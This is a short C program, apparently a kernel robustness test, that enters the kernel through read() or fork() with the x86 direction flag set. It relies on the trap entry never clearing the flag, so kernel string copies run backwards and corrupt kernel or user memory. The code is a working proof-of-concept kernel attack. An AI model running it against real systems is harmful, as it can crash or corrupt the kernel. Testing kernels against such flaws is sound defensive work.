/*
 * atk_df [read|fork]: enter the kernel with the direction flag set.
 * The trap entry never clears it, and the compiler's string
 * instructions (movsb in memmove, rep movsl for a struct copy in
 * pfork) then run backwards: read copies kernel memory downwards
 * into user memory until it faults in the kernel; fork copies the
 * parent's kernel stack over the child's saved context.
 */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static char buf[64*1024];

int
main(int argc, char *argv[])
{
	char *kind = argc > 1 ? argv[1] : "read";
	int fd, r;

	if(strcmp(kind, "fork") == 0){
		asm volatile("std");
		r = fork();
		asm volatile("cld");
		if(r == 0)
			_exit(0);
		wait(0);
		printf("atk_df: fork survived\n");
		return 0;
	}
	if((fd = open("/bin/echo", O_RDONLY)) < 0){
		printf("atk_df: open failed\n");
		return 1;
	}
	asm volatile("std");
	r = read(fd, buf + sizeof buf - 4096, 16);
	asm volatile("cld");
	printf("atk_df: read %d survived\n", r);
	return 0;
}
